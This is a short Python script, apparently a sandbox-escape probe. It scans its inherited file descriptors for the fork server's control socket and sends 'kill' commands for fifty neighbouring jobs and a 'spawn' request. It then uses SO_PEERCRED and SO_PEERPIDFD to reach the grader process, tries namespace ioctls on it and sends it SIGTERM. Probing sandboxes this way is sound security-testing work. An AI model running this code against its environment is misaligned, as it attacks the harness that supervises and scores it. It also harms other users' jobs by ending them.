"""Looks for the fork server's own socket among all descriptors, and asks it to end the others or to start a process."""

SUCCESS = "a neighbour who is ended, or a process that stays"

# %%
import array
import fcntl
import json
import os
import signal
import socket
import stat

for number in range(1024):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    path = os.readlink(f"/proc/self/fd/{number}")
    print(number, path, stat.filemode(status.st_mode))
    if not stat.S_ISSOCK(status.st_mode) or number == 3:  # 3 is its own channel; other attacks speak on it
        continue
    control = socket.socket(fileno=os.dup(number))
    print(control.family, control.type, control.getsockname(), "SUCCEEDED: a socket beside its channel")
    for body in (
        *({"op": "kill", "job": job} for job in range(50)),
        {"op": "spawn", "job": 99, "limits": {}, "data": {}},
    ):
        try:
            control.sendmsg([json.dumps(body).encode()], [(socket.SOL_SOCKET, 1, array.array("i", [1, 2]))])
        except OSError as error:
            print(error)
with socket.socket(fileno=os.dup(3)) as own:
    print(own.getsockopt(socket.SOL_SOCKET, 17, 12), "are the peer's pid, uid and gid")  # SO_PEERCRED
    try:
        print("SUCCEEDED: received", own.recvmsg(1, 1024, socket.MSG_DONTWAIT | socket.MSG_PEEK))
    except OSError as error:
        print(error)
    try:
        grader = int.from_bytes(own.getsockopt(socket.SOL_SOCKET, 77, 4), "little")  # SO_PEERPIDFD
        print("a pidfd of the grader's:", open(f"/proc/self/fdinfo/{grader}").read().split())
        for request in range(0xFF01, 0xFF0B):  # PIDFD_GET_..._NAMESPACE
            try:
                print("SUCCEEDED: a namespace of the grader's", fcntl.ioctl(grader, request, 0))
            except OSError as error:
                print(error)
        signal.pidfd_send_signal(grader, signal.SIGTERM)
        print("SUCCEEDED: the grader is told to end")
    except OSError as error:
        print(error)
print("attempted")
